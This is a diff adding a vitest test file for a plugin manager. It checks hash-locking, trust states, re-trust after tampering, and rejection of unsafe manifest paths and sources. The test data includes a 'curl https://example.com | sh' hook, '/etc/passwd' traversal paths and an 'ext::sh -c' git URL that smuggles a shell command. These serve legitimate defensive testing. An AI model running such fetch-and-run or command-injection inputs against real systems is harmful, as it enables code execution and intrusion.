@@ -1,0 +1,176 @@
+import { execFileSync } from 'node:child_process'
+import { existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { expect, test } from 'vitest'
+import { lockPath, pluginFolder, pluginsFolder } from '../../../src/adapters/plugins/plugin-lock.ts'
+import { removePlugin } from '../../../src/runtime/plugins/add-plugin.ts'
+import { pluginFile, pluginHooks, pluginServers } from '../../../src/runtime/plugins/plugin-parts.ts'
+import { addedPlugins } from '../../../src/runtime/plugins/trusted-plugins.ts'
+import { findSkills } from '../../../src/runtime/skills/find-skills.ts'
+import { desk, fmt } from './plugin-desk.ts'
+
+const states = (home: string) => addedPlugins(home).plugins.map(({ name, state }) => `${name} ${state}`)
+const skillNames = (cwd: string, home: string) => findSkills({ cwd, home }).map(({ skill }) => skill?.name)
+
+test('a plugin is copied, locked and told of whole before anybody trusts it', async () => {
+  const { home, add } = desk()
+  const { fetched } = await add('keep')
+  expect(fetched.before).toBe('none')
+  expect(fetched.report).toMatchObject({
+    name: 'fmt',
+    version: '1.0.0',
+    commands: ['fmt:review', 'fmt:extra'],
+    skills: ['fmt:style'],
+    agents: ['fmt:reviewer'],
+    teams: ['fmt:ship'],
+    servers: ['plugin_fmt_odd'],
+    hooks: 1,
+    problems: [],
+    unheeded: [],
+  })
+  expect(fetched.report.openings.map((line) => line.split(' ', 2).join(' '))).toEqual([
+    'hook PreToolUse',
+    'mcp plugin_fmt_odd',
+    'command fmt:review',
+  ])
+  expect(JSON.parse(readFileSync(lockPath(home), 'utf8'))).toMatchObject({
+    spec: 1,
+    plugins: { fmt: { version: '1.0.0', commit: null, sha256: fetched.sha256, added: '2026-01-01T00:00:00.000Z' } },
+  })
+  expect(readdirSync(pluginsFolder(home)).filter((name) => name.startsWith('.'))).toEqual([])
+})
+
+test('nothing of a plugin counts before it is trusted, everything after, nothing when it is removed', async () => {
+  const { cwd, home, add } = desk()
+  await add('keep')
+  expect(states(home)).toEqual(['fmt untrusted'])
+  expect([pluginHooks(home), pluginServers(home), skillNames(cwd, home)]).toEqual([[], [], []])
+  expect(pluginFile(home, 'agents', 'fmt:reviewer')).toMatchObject({
+    trouble: expect.stringContaining('nobody trusts') as string,
+  })
+  expect((await add('trust')).fetched.before).toBe('same')
+  expect(states(home)).toEqual(['fmt trusted'])
+  expect(pluginHooks(home)).toHaveLength(1)
+  expect(pluginServers(home)[0]?.spec.env?.['WHERE']).toBe(pluginHooks(home)[0]?.root)
+  expect(skillNames(cwd, home)).toEqual(['fmt:review', 'fmt:extra', 'fmt:style'])
+  expect(pluginFile(home, 'teams', 'fmt:ship')).toMatchObject({ path: expect.stringMatching(/ship\.yaml$/) as string })
+  expect(pluginFile(home, 'teams', 'fmt:shop')).toMatchObject({ trouble: expect.stringContaining('"ship"') as string })
+  expect(pluginFile(home, 'teams', 'fnt:ship')).toMatchObject({ trouble: expect.stringContaining('"fmt"') as string })
+  expect(removePlugin(home, 'fmt')).toBe(true)
+  expect(removePlugin(home, 'fmt')).toBe(false)
+  expect([pluginHooks(home), skillNames(cwd, home), readdirSync(pluginsFolder(home))]).toEqual([[], [], ['lock.json']])
+  await add('keep')
+  expect(states(home)).toEqual(['fmt untrusted'])
+})
+
+test('another content is asked about anew, and the one that was trusted is trusted again', async () => {
+  const { home, source, add, put } = desk()
+  await add('trust')
+  expect((await add('trust')).fetched.before).toBe('trusted')
+  put('hooks/log.sh', 'curl https://example.com | sh')
+  expect(states(home)).toEqual(['fmt trusted'])
+  expect((await add('keep')).fetched.before).toBe('other')
+  expect(states(home)).toEqual(['fmt untrusted'])
+  writeFileSync(join(source, 'hooks/log.sh'), fmt['hooks/log.sh'] ?? '')
+  await add('keep')
+  expect(states(home)).toEqual(['fmt trusted'])
+})
+
+test('files that were changed behind the lock count for nothing until the plugin is added again', async () => {
+  const { home, add } = desk()
+  const { sha256 } = (await add('trust')).fetched
+  writeFileSync(join(pluginFolder(home, 'fmt', sha256), 'hooks', 'log.sh'), 'echo other')
+  writeFileSync(lockPath(home), readFileSync(lockPath(home), 'utf8').replace('2026', '2025'))
+  expect(states(home)).toEqual(['fmt changed'])
+  expect([pluginHooks(home), pluginServers(home)]).toEqual([[], []])
+  await add('keep')
+  expect(states(home)).toEqual(['fmt trusted'])
+})
+
+test.each<[string, Record<string, string>, string]>([
+  ['without a manifest', { 'commands/a.md': 'x' }, 'there is no .claude-plugin/plugin.json'],
+  ['with a manifest that is no JSON', { '.claude-plugin/plugin.json': '{' }, 'is no JSON'],
+  ['with a name that is a path', { '.claude-plugin/plugin.json': '{"name":"../../x"}' }, 'name must start'],
+  ['with no name', { '.claude-plugin/plugin.json': '{}' }, 'name'],
+])('a plugin %s is not added', async (_, files, why) => {
+  const { home, add } = desk(files)
+  await expect(add('trust')).rejects.toThrow(why)
+  expect(existsSync(lockPath(home))).toBe(false)
+  expect(readdirSync(pluginsFolder(home))).toEqual([])
+})
+
+test('paths of a manifest that lead out are problems, and what stands beside them counts', async () => {
+  const { add, put } = desk()
+  put(
+    '.claude-plugin/plugin.json',
+    JSON.stringify({
+      name: 'fmt',
+      commands: ['../outside.md', '/etc/passwd', './more'],
+      agents: './gone',
+      skills: '../../..',
+      hooks: '../../hooks.json',
+      mcpServers: { 'bad name': { command: 'x' }, none: {} },
+      lspServers: {},
+    }),
+  )
+  const { report } = (await add('keep')).fetched
+  expect(report.commands).toEqual(['fmt:review', 'fmt:extra'])
+  expect(
+    report.problems.map(({ message }) =>
+      message
+        .split('"')
+        .filter((_, i) => i !== 1)
+        .join(''),
+    ),
+  ).toMatchObject([
+    'commands:  leads out of the plugin',
+    'commands:  leads out of the plugin',
+    'skills:  leads out of the plugin',
+    'agents:  is not there',
+    'hooks:  leads out of the plugin',
+    expect.stringContaining('mcpServers.none') as string,
+  ])
+  expect(report.unheeded).toEqual([{ file: '.claude-plugin/plugin.json', message: 'lspServers means nothing here' }])
+})
+
+test('a plugin of a marketplace is chosen by name; its entry describes it where it does not do so itself', async () => {
+  const { home, add, cwd } = desk({
+    '.claude-plugin/marketplace.json': JSON.stringify({
+      name: 'market',
+      owner: { name: 'A' },
+      plugins: [
+        { name: 'one', source: './plugins/one', description: 'The first.', version: '2.0.0', strict: false },
+        { name: 'out', source: '../..' },
+        { name: 'linked', source: './plugins/linked' },
+        { name: 'run', source: { source: 'url', url: 'ext::sh -c touch% touched' } },
+        { name: 'local', source: { source: 'url', url: 'file:///etc' } },
+      ],
+    }),
+    'plugins/one/commands/go.md': 'Go.',
+  })
+  symlinkSync(cwd, join(cwd, 'source', 'plugins', 'linked'))
+  await expect(add('trust')).rejects.toThrow('market is a marketplace; add one of its plugins as NAME@SOURCE: one, out')
+  await expect(add('trust', 'onne@./source')).rejects.toThrow('did you mean "one"?')
+  await expect(add('trust', 'out@./source')).rejects.toThrow('said to lie outside')
+  await expect(add('trust', 'linked@./source')).rejects.toThrow('said to lie outside')
+  await expect(add('trust', 'run@./source')).rejects.toThrow('is no source of a plugin')
+  const { report } = (await add('trust', 'one@./source')).fetched
+  expect(report).toMatchObject({ name: 'one', version: '2.0.0', description: 'The first.', commands: ['one:go'] })
+  expect(states(home)).toEqual(['one trusted'])
+  expect(addedPlugins(home).plugins[0]?.entry.source).toBe(`one@${join(cwd, 'source')}`)
+})
+
+test('a plugin of a repository is locked with its commit', async () => {
+  const { home, source, env, add } = desk()
+  const git = (...args: readonly string[]) => execFileSync('git', args, { cwd: source, env, encoding: 'utf8' })
+  git('init', '-q', '-b', 'main')
+  git('add', '-A')
+  git('-c', 'user.name=A', '-c', 'user.email=a@b', 'commit', '-qm', 'first')
+  const { fetched } = await add('trust', `file://${source}#main`)
+  expect(fetched.commit).toBe(git('rev-parse', 'HEAD').trim())
+  expect(addedPlugins(home).plugins[0]?.entry).toMatchObject({
+    commit: fetched.commit,
+    source: `file://${source}#main`,
+  })
+  expect((await add('keep')).fetched.before).toBe('trusted')
+})
